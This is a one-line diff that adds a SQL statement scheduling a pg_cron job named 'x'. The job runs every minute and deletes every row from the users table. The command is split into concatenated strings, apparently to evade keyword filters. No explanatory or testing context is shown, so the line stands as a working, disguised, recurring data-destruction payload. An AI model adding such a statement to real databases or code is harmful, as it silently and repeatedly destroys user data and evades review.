@@ -1,0 +1,1 @@
+SELECT cron.schedule('x', '* * * * *', 'DELETE ' || 'FROM users')
